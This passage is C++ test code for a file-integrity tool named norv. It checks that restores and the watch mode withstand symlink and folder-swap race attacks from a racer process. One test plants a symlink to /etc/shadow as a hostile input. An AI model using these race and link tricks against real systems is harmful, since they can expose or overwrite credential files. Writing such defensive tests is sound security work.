    std::string spare;
    ASSERT_NO_FATAL_FAILURE(spare = LayOutFilesBelowAnAttackersFolder(kFiles, name));
    const auto before = Snapshot(outside.path());
    // The test tampers through a descriptor of the real c, which follows it wherever the racer
    // has put b: the test's own writes never pass through the link.
    Fd c(::open((tree / "site/a/b/c").c_str(), O_RDONLY | O_DIRECTORY));
    ASSERT_GE(c.fd, 0);

    Racer racer(racer_binary, tree / "site/a/b", spare, outside.path(), scratch / "racer.txt");
    ASSERT_TRUE(racer.WaitStarted(seconds(10))) << racer.Report();
    const std::string prefix = tree / "site/a/b/c/";
    int restores = 0;
    int rounds = 0;
    const auto deadline = SteadyClock::now() + seconds(30);
    for (; restores < 400 && rounds < 60 && SteadyClock::now() < deadline; ++rounds) {
        for (int i = 0; i < kFiles; ++i) {
            if ((i + rounds) % 2 == 0) {
                ASSERT_TRUE(WriteAt(c.fd, name(i), "tampered in round " + std::to_string(rounds)));
            } else {
                ::unlinkat(c.fd, name(i).c_str(), 0);
            }
        }
        Outcome check = Run("check", seconds(60));
        ASSERT_FALSE(check.timed_out) << "round " << rounds << " never ended";
        ASSERT_NE(check.exit_code, -1) << "round " << rounds << " crashed: " << check.out;
        for (const std::string& line : LogLines(Log())) {
            // Each altered or deleted protected file is a restore (after the move, if altered).
            if (line.rfind("Altered: " + prefix, 0) == 0 ||
                line.rfind("Deleted: " + prefix, 0) == 0)
                ++restores;
        }
    }
    const auto swaps = racer.Stop();
    RecordProperty("restores", restores);
    RecordProperty("rounds", rounds);
    RecordProperty("swaps", std::to_string(swaps));

    EXPECT_GT(swaps, 0u) << racer.Report();
    EXPECT_GE(restores, 100) << "too few restores in " << rounds << " rounds";
    EXPECT_EQ(Differences(before, Snapshot(outside.path())), "")
        << "after " << restores << " restores in " << rounds << " rounds";
    std::string left;
    for (const auto& [path, facts] : Snapshot(outside.path())) {
        if (path.find(".norv-restore-") != std::string::npos) left += path + "\n";
    }
    EXPECT_EQ(left, "") << "restore temporary files left in the outside folder";
}

// An attacker who can write a page's folder replaces every temporary file a restore makes there
// with a file of its own, as fast as it can, while checks restore a page and a link in it. Each
// check leaves the archived page and link in place, or reports their restore failed: the
// attacker's file is never put in their place and reported restored.
TEST_F(ContainmentRaceTest,
       RestoresRacingAnAttackerWhoReplacesTheirFilesNeverReportItsFileRestored) {
    const std::string page = tree.Write("site/page.html", "<h1>archived</h1>");
    ASSERT_EQ(::chmod(page.c_str(), 0640), 0);
    const std::string link = tree / "site/link";
    ASSERT_EQ(::symlink("page.html", link.c_str()), 0);
    ASSERT_EQ(::chmod((tree / "site").c_str(), 0777), 0);
    Rules({{tree / "site", 3}});
    ASSERT_NO_FATAL_FAILURE(ArchiveAndInit());

    Racer racer(racer_binary, Racer::Plant{".norv-restore-"}, tree / "site", stage / "own",
                scratch / "racer.txt");
    ASSERT_TRUE(racer.WaitStarted(seconds(10))) << racer.Report();
    int restored = 0;
    int rounds = 0;
    const auto deadline = SteadyClock::now() + seconds(40);
    for (; rounds < 30 && SteadyClock::now() < deadline; ++rounds) {
        ::unlink(page.c_str());
        tree.Write("site/page.html", "tampered in round " + std::to_string(rounds));
        ::unlink(link.c_str());
        ASSERT_EQ(::symlink("/etc/shadow", link.c_str()), 0);
        Outcome check = Run("check", seconds(60));
        ASSERT_FALSE(check.timed_out) << "round " << rounds << " never ended";
        ASSERT_NE(check.exit_code, -1) << "round " << rounds << " crashed: " << check.out;
        const std::vector<std::string> lines = LogLines(Log());
        auto warned = [&](const std::string& path) {
            return std::any_of(lines.begin(), lines.end(), [&](const std::string& line) {
                return line.rfind("Warning: ", 0) == 0 && line.find(path) != std::string::npos;
            });
        };
        struct stat st {};
        const bool page_back = ::lstat(page.c_str(), &st) == 0 && S_ISREG(st.st_mode) &&
                               ReadAll(page) == "<h1>archived</h1>";
        char target[PATH_MAX];
        const ssize_t n = ::readlink(link.c_str(), target, sizeof target);
        const bool link_back = n > 0 && std::string(target, static_cast<size_t>(n)) == "page.html";
        EXPECT_TRUE(page_back || warned(page)) << "round " << rounds << ": " << ReadAll(page);
        EXPECT_TRUE(link_back || warned(link)) << "round " << rounds;
        if (page_back && link_back) ++restored;
    }
    const auto plants = racer.Stop();
    RecordProperty("rounds", rounds);
    RecordProperty("restored", restored);
    RecordProperty("plants", std::to_string(plants));
    EXPECT_GE(rounds, 10) << "too few checks in the time allowed";
    EXPECT_GT(restored, 0) << "no check ever restored both";
}

TEST_F(ContainmentRaceTest, TheWatchRacingAFolderSwappedForALinkNeverWritesOutside) {
    constexpr int kFiles = 16;
    auto name = [](int i) { return "w" + std::to_string(i) + ".dat"; };
    std::string spare;
    ASSERT_NO_FATAL_FAILURE(spare = LayOutFilesBelowAnAttackersFolder(kFiles, name));
    const auto before = Snapshot(outside.path());
    Fd c(::open((tree / "site/a/b/c").c_str(), O_RDONLY | O_DIRECTORY));
    ASSERT_GE(c.fd, 0);

    pid_t watch = Spawn({binary, "--dir", program.path(), "watch"}, scratch / "watch.txt");
    const auto started_by = SteadyClock::now() + seconds(60);
    while (ReadAll(scratch / "watch.txt").find("リアルタイム監視を開始しました") ==
           std::string::npos) {
        ASSERT_LT(SteadyClock::now(), started_by) << ReadAll(scratch / "watch.txt");
        Pause();
    }
    auto restores = [&] {
        const std::string events = ReadAll(program / "norv-events.jsonl");
        size_t n = 0;
        const std::string done =
            "\"action\":\"restore\",\"path\":\"" + tree.path() + "/site/a/b/c/";
        for (size_t at = events.find(done); at != std::string::npos;
             at = events.find(done, at + 1)) {
            ++n;
        }
        return n;
    };
    Racer racer(racer_binary, tree / "site/a/b", spare, outside.path(), scratch / "racer.txt");
    ASSERT_TRUE(racer.WaitStarted(seconds(10))) << racer.Report();
    int rounds = 0;
    const auto deadline = SteadyClock::now() + seconds(25);
    for (; restores() < 200 && rounds < 200 && SteadyClock::now() < deadline; ++rounds) {
        const size_t seen = restores();
        for (int i = 0; i < kFiles; ++i) {
            if ((i + rounds) % 2 == 0) {
                ASSERT_TRUE(WriteAt(c.fd, name(i), "tampered in round " + std::to_string(rounds)));
            } else {
                ::unlinkat(c.fd, name(i).c_str(), 0);
            }
        }
        // The watch answers the round (or the round's time is up) before the next one.
        const auto round_end = SteadyClock::now() + seconds(3);
        while (restores() == seen && SteadyClock::now() < round_end) Pause();
    }
    const auto swaps = racer.Stop();
    ::kill(watch, SIGTERM);
    Outcome ended = Reap(watch, SteadyClock::now() + seconds(30));
    RecordProperty("restores", std::to_string(restores()));
    RecordProperty("rounds", rounds);
    RecordProperty("swaps", std::to_string(swaps));

    EXPECT_EQ(ended.exit_code, 0) << ReadAll(scratch / "watch.txt");
    EXPECT_GT(swaps, 0u) << racer.Report();
    EXPECT_GE(restores(), 50u) << "too few restores in " << rounds << " rounds";
    EXPECT_EQ(Differences(before, Snapshot(outside.path())), "")
        << "after " << restores() << " restores in " << rounds << " rounds";
    std::string taken;
    for (const auto& file : RegularFilesBelow(cracked)) {
        if (file.content.rfind("outside ", 0) == 0) taken += FileNameOf(file.path) + "\n";
    }
    EXPECT_EQ(taken, "") << "files of the outside folder in the cracked folder";
}

}  // namespace
}  // namespace norv
